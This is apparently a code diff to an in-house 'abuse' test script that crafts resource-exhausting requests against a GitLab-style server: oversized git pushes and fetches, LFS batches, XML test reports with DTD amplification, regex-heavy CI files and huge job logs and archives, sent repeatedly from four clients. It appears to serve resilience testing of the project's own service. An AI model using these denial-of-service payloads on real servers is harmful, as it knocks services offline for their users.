@@ -1,10 +1,9 @@
-"""Single requests that are made to be dear: what each sends grows with a number, in the worst shape that is known.
-
-`docs/security.md` lists the places where strangers' bytes are worked on; most have an input here. The same table is
-sent to a service of its own by `scripts/abuse/run` and, in short, by the tests.
-"""
+"""Single requests that are expensive to answer: the size of each grows with a number, in the worst known shape."""
 
 import base64
+import gzip
+import io
+import zipfile
 from collections import Counter
 from collections.abc import Awaitable, Callable, Mapping
 from itertools import count
@@ -15,18 +14,114 @@ import aiohttp
 import attrs
 import orjson
 
-from scripts.abuse import jobs, packs
-from scripts.abuse.jobs import Job, Request
-from scripts.abuse.place import Place, again_and_again, session
+from scripts.abuse import repositories
+from scripts.abuse.environment import AttackTarget, read_all, repeat, session
+
+_branches = count()
+_FILE_BOUNDARY = "files-of-a-job"
+
+
+@attrs.frozen
+class Request:
+    """One request, by a stranger unless the headers say who. `worked_on` are the bytes that were sent before, and are
+    worked on with it."""
+
+    method: str
+    url: str
+    body: bytes = b""
+    headers: Mapping[str, str] = attrs.field(factory=dict)
+    worked_on: int = 0
+
+    @property
+    def size(self) -> int:
+        """All bytes that the server has to work on."""
+        return len(self.url) + len(self.body) + sum(map(len, self.headers.values())) + self.worked_on
+
+    async def send(self, http: aiohttp.ClientSession) -> str:
+        """Send it and read the answer; its status."""
+        async with http.request(
+            self.method,
+            self.url,
+            data=io.BytesIO(self.body) if self.body else None,
+            headers={"Content-Type": "application/octet-stream", **self.headers}
+            if self.body
+            else self.headers,
+            allow_redirects=False,
+        ) as answer:
+            return await read_all(answer)
+
+
+@attrs.frozen
+class Job:
+    """A running job, and the id of its pipeline."""
+
+    id: int
+    token: str
+    pipeline: int
+    api: str
+
+    def log(self, text: bytes) -> Request:
+        """The whole log in one piece."""
+        headers = {"JOB-TOKEN": self.token, "Content-Range": f"0-{len(text) - 1}"}
+        return Request("PATCH", f"{self.api}/jobs/{self.id}/trace", text, headers)
+
+    def finish(self) -> Request:
+        """Its success."""
+        body = orjson.dumps({"token": self.token, "state": "success"})
+        return Request("PUT", f"{self.api}/jobs/{self.id}", body, {"Content-Type": "application/json"})
+
+    def upload(self, files: Mapping[str, str], report: str = "") -> Request:
+        """An archive of files, or a report, which is one file."""
+        content, query = _archive(files), ""
+        if report:
+            content = gzip.compress("".join(files.values()).encode())
+            query = f"?artifact_type={report}&artifact_format=gzip"
+        head = (
+            f'--{_FILE_BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n'
+            "Content-Type: application/octet-stream\r\n\r\n"
+        )
+        body = head.encode() + content + f"\r\n--{_FILE_BOUNDARY}--\r\n".encode()
+        headers = {"JOB-TOKEN": self.token, "Content-Type": f"multipart/form-data; boundary={_FILE_BOUNDARY}"}
+        return Request("POST", f"{self.api}/jobs/{self.id}/artifacts{query}", body, headers)
+
+
+async def running_job(place: AttackTarget, http: aiohttp.ClientSession, file: str) -> Job:
+    """The only job of a new pipeline with that CI file, running."""
+    api, project = f"{place.api_url}/api/v4", place.project(place.mine)
+    branch = f"job-{next(_branches)}"
+    actions = [{"action": "create", "file_path": ".gitlab-ci.yml", "content": file}]
+    commit = {"branch": branch, "start_branch": "main", "commit_message": "Job", "actions": actions}
+    async with http.post(f"{project}/repository/commits", json=commit, headers=place.as_attacker) as answer:
+        answer.raise_for_status()
+    async with http.get(project, headers=place.as_attacker) as answer:
+        project_id = (await answer.json())["id"]
+    runner = {"runner_type": "project_type", "project_id": project_id, "run_untagged": True}
+    async with http.post(f"{api}/user/runners", json=runner, headers=place.as_attacker) as answer:
+        token = (await answer.json())["token"]
+    while True:
+        async with http.post(f"{api}/jobs/request", json={"token": token}) as answer:
+            given = await answer.json() if answer.status == 201 else None
+        if given and given["git_info"]["ref"] == branch:
+            variables = {one["key"]: one["value"] for one in given["variables"]}
+            return Job(given["id"], given["token"], int(variables["CI_PIPELINE_ID"]), api)
+
+
+def _archive(files: Mapping[str, str]) -> bytes:
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w") as archive:
+        for name, text in files.items():
+            archive.writestr(name, text)
+    return file.getvalue()
+
 
 #: What has been compiled once is remembered.
-_numbers = count()
+_expressions = count()
 FORM = "application/x-www-form-urlencoded"
 _BOUNDARY = "abuse"
 
 
 #: Gives the request of a size; some need a job, or a project's file, to be made for it first.
-Make = Callable[[Place, aiohttp.ClientSession, int], Awaitable[Request]]
+Make = Callable[[AttackTarget, aiohttp.ClientSession, int], Awaitable[Request]]
 
 
 @attrs.frozen
@@ -39,19 +134,19 @@ class Input:
     once: bool = False
 
 
-def _api(place: Place, path: str) -> str:
+def _api(place: AttackTarget, path: str) -> str:
     return f"{place.api_url}/api/v4{path}"
 
 
-def _json(place: Place, path: str, value: Any, *, signed_in: bool = False) -> Request:
+def _json(place: AttackTarget, path: str, value: Any, *, signed_in: bool = False) -> Request:
     headers = {"Content-Type": "application/json"} | (place.as_attacker if signed_in else {})
     return Request(
         "POST", path if path.startswith("http") else _api(place, path), orjson.dumps(value), headers
     )
 
 
-def _simple(largest: int, make: Callable[[Place, int], Request]) -> Input:
-    async def made(place: Place, _: aiohttp.ClientSession, number: int) -> Request:
+def _simple(largest: int, make: Callable[[AttackTarget, int], Request]) -> Input:
+    async def made(place: AttackTarget, _: aiohttp.ClientSession, number: int) -> Request:
         return make(place, number)
 
     return Input(largest, made)
@@ -81,7 +176,7 @@ def _of_form(largest: int, path: str, text: Callable[[int], str]) -> Input:
 
 def _get(
     largest: int,
-    path: Callable[[Place, int], str],
+    path: Callable[[AttackTarget, int], str],
     headers: Callable[[int], Mapping[str, str]] = lambda _: {},
 ) -> Input:
     return _simple(
@@ -96,14 +191,14 @@ def _lint(largest: int, file: Callable[[int], str]) -> Input:
     return _of_mine(largest, "/ci/lint", lambda number: {"content": file(number)})
 
 
-def _multipart(place: Place, number: int) -> Request:
+def _multipart(place: AttackTarget, number: int) -> Request:
     part = f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n'
     headers = {"Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"}
     body = part * number + f"--{_BOUNDARY}--\r\n"
     return Request("POST", f"{place.api_url}/-/sign_in", body.encode(), headers)
 
 
-def _git(place: Place, service: str, body: bytes) -> Request:
+def _git(place: AttackTarget, service: str, body: bytes) -> Request:
     credentials = base64.b64encode(f"attacker:{place.attacker}".encode()).decode()
     headers = {
         "Authorization": f"Basic {credentials}",
@@ -112,19 +207,19 @@ def _git(place: Place, service: str, body: bytes) -> Request:
     return Request("POST", f"{place.api_url}/{place.mine}.git/git-{service}", body, headers)
 
 
-def _push(place: Place, number: int) -> Request:
+def _push(place: AttackTarget, number: int) -> Request:
     commands = [f"{'0' * 40} {index:040x} refs/heads/{'a/' * 20}{index}" for index in range(1, number + 1)]
     first, *others = (command.encode() for command in commands)
     lines = [first + b"\0 report-status\n", *(other + b"\n" for other in others)]
-    return _git(place, "receive-pack", b"".join(map(packs.packet, lines)) + b"0000")
+    return _git(place, "receive-pack", b"".join(map(repositories.pkt_line, lines)) + b"0000")
 
 
-def _fetch(place: Place, number: int) -> Request:
-    lines = b"".join(packs.packet(f"want {index:040x}\n".encode()) for index in range(1, number + 1))
-    return _git(place, "upload-pack", lines + b"0000" + packs.packet(b"done\n"))
+def _fetch(place: AttackTarget, number: int) -> Request:
+    lines = b"".join(repositories.pkt_line(f"want {index:040x}\n".encode()) for index in range(1, number + 1))
+    return _git(place, "upload-pack", lines + b"0000" + repositories.pkt_line(b"done\n"))
 
 
-def _lfs(place: Place, number: int) -> Request:
+def _lfs(place: AttackTarget, number: int) -> Request:
     request = _git(place, "upload-pack", b"")
     objects = [{"oid": f"{index:064x}", "size": 1} for index in range(number)]
     body = orjson.dumps({"operation": "download", "objects": objects})
@@ -132,28 +227,28 @@ def _lfs(place: Place, number: int) -> Request:
     return Request("POST", f"{place.api_url}/{place.mine}.git/info/lfs/objects/batch", body, headers)
 
 
-async def _masked_log(place: Place, http: aiohttp.ClientSession, number: int) -> Request:
+async def _masked_log(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     """Secrets that begin alike, and a log of their beginnings."""
     project = place.project(place.mine)
     for key, value in (("SHORT", "b" * 8), ("LONG", "a" * 9990 + "0" * 8)):
         body = {"key": key, "value": value, "masked": True}
         async with http.post(f"{project}/variables", json=body, headers=place.as_attacker) as answer:
             await answer.read()  # 400 where it is there already
-    job = await jobs.running(place, http, "job:\n  script: ['true']\n")
+    job = await running_job(place, http, "job:\n  script: ['true']\n")
     return job.log(b"a" * number)
 
 
-async def _coverage(place: Place, http: aiohttp.ClientSession, number: int) -> Request:
+async def _coverage(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     """A line of digits, in which the last match is looked for when the job ends."""
-    job = await jobs.running(place, http, "job:\n  coverage: '/\\d/'\n  script: ['true']\n")
+    job = await running_job(place, http, "job:\n  coverage: '/\\d/'\n  script: ['true']\n")
     await job.log(b"1" * number).send(http)
     return attrs.evolve(job.finish(), worked_on=number)
 
 
-async def _test_report(place: Place, http: aiohttp.ClientSession, number: int) -> Request:
+async def _test_report(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     """A default value of an attribute that each test case would have."""
     file = "job:\n  script: ['true']\n  artifacts:\n    reports:\n      junit: report.xml\n"
-    job = await jobs.running(place, http, file)
+    job = await running_job(place, http, file)
     document = f'<!DOCTYPE testsuites [<!ATTLIST testcase classname CDATA "{"a" * 100 * number}">]>'
     cases = '<testcase name="a"/>' * number
     document += f"<testsuites><testsuite>{cases}</testsuite></testsuites>"
@@ -162,24 +257,24 @@ async def _test_report(place: Place, http: aiohttp.ClientSession, number: int) -
     return _report_of(place, job, len(document))
 
 
-def _report_of(place: Place, job: Job, worked_on: int) -> Request:
+def _report_of(place: AttackTarget, job: Job, worked_on: int) -> Request:
     url = f"{place.project(place.mine)}/pipelines/{job.pipeline}/test_report"
     return Request("GET", url, b"", place.as_attacker, worked_on)
 
 
-async def _names_of_jobs(place: Place, http: aiohttp.ClientSession, number: int) -> Request:
+async def _names_of_jobs(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     """A name that the expression for parts of a job (`name 1/2`) tries at each of its characters."""
     file = f"'{'1 ' * (number // 2)}x':\n  script: ['true']\n  artifacts:\n    reports:\n      junit: report.xml\n"
-    job = await jobs.running(place, http, file)
+    job = await running_job(place, http, file)
     await job.upload({"report.xml": "<testsuites/>"}, "junit").send(http)
     await job.finish().send(http)
     return _report_of(place, job, number)
 
 
-async def _artifact_members(place: Place, http: aiohttp.ClientSession, number: int) -> Request:
+async def _artifact_members(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     """A look at one folder of an archive of very many files, by a stranger."""
     file = "job:\n  script: ['true']\n  artifacts:\n    paths: [files]\n"
-    job = await jobs.running(place, http, file)
+    job = await running_job(place, http, file)
     upload = job.upload({f"files/{index:06}.txt": "x" for index in range(number)})
     await upload.send(http)
     await job.finish().send(http)
@@ -187,13 +282,13 @@ async def _artifact_members(place: Place, http: aiohttp.ClientSession, number: i
     return Request("GET", url, worked_on=upload.size)
 
 
-async def _dotenv(place: Place, http: aiohttp.ClientSession, number: int) -> Request:
+async def _dotenv(place: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
     file = "job:\n  script: ['true']\n  artifacts:\n    reports:\n      dotenv: build.env\n"
-    job = await jobs.running(place, http, file)
+    job = await running_job(place, http, file)
     return job.upload({"build.env": "".join(f"A{index}=b\n" for index in range(number))}, "dotenv")
 
 
-def _edge_file(place: Place, _: int = 0) -> str:
+def _edge_file(place: AttackTarget, _: int = 0) -> str:
     return f"{place.edge_url}/{place.public}/-/raw/main/src/1/1.txt"
 
 
@@ -269,7 +364,7 @@ INPUTS: dict[str, Input] = {
         12,
         lambda n: (
             "a:\n  script: [b]\n  only: ["
-            + ", ".join(f"'/\\pL{{400}}{next(_numbers)}/'" for _ in range(n))
+            + ", ".join(f"'/\\pL{{400}}{next(_expressions)}/'" for _ in range(n))
             + "]\n"
         ),
     ),
@@ -310,7 +405,7 @@ INPUTS: dict[str, Input] = {
 }
 
 
-async def attack(name: str, place: Place, answers: "Counter[str]") -> None:
+async def attack(name: str, place: AttackTarget, answers: "Counter[str]") -> None:
     """Four clients, each of which sends the largest form of the input again and again."""
     given = INPUTS[name]
     async with session() as http:
@@ -320,4 +415,4 @@ async def attack(name: str, place: Place, answers: "Counter[str]") -> None:
             request = made or await given.make(place, http, given.largest)
             return await request.send(http)
 
-        await again_and_again(4, send, answers)
+        await repeat(4, send, answers)
